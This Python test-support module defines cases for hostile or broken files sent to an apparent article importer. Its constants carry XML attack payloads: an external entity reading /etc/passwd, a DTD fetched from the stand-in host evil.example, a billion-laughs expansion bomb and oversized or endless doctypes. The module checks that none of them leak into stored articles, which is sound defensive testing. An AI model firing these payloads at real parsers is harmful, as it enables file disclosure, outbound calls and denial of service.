"""What a broken, hostile or odd file is for the tests: its bytes, and what must become of it."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass

EVIL = "hostile-escape"
"""In the name of everything that must not be written anywhere."""

FILE_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
WEB_ENTITY = (
    '<!DOCTYPE x [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;<!ENTITY e SYSTEM "http://evil.example/x">]>'
)
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY l0 "ha ha ha ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
LONG_ENTITY = f'<!DOCTYPE x [<!ENTITY e "{"ha " * 6_000}">]>'
ENDLESS_DOCTYPE = f"<!DOCTYPE x [{'<!-- ha ' * 6_000}"
NO_ENTITY = ("root:", "ha ha", "evil.example")


@dataclass(frozen=True, slots=True)
class Taken:
    """Stored as an article."""

    has: tuple[str, ...] = ()
    """Words that its body must have."""
    lacks: tuple[str, ...] = ()
    """Words that neither its title nor its body may have."""
    title: str | None = None
    body: str | None = None
    """The whole of it."""
    note: str = ""
    """Words of the notes that the import shows."""
    outcome: str = "stored"


@dataclass(frozen=True, slots=True)
class Lost:
    """Refused, for a reason that has these words."""

    reason: str


Fate = Taken | Lost


@dataclass(frozen=True, slots=True)
class Case:
    """A file as it is sent; `data` may be made when it is asked for.

    `fate` is that of the whole file, or of its records by their place in it ("line 7"; "" for the file).
    """

    name: str
    data: bytes | str | Callable[[], bytes | str]
    fate: Fate | Mapping[str, Fate]
    feed: Fate | None = None
    """Of its text as the content of a feed's item, for text and HTML."""
    in_zip: bool = True
    """Whether it is also sent as the member of an archive."""
    others: int = 0
    """How many records of the file are stored that `fate` does not name."""
    shown: str = ""
    """How the import names it, where that is not its name."""

    def content(self) -> bytes:
        data = self.data() if callable(self.data) else self.data
        return data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data

    def fates(self) -> Mapping[str, Fate]:
        return {"": self.fate} if isinstance(self.fate, Taken | Lost) else self.fate

    @property
    def shown_name(self) -> str:
        return self.shown or self.name


def line(**fields: object) -> str:
    return json.dumps(fields, ensure_ascii=False) + "\n"
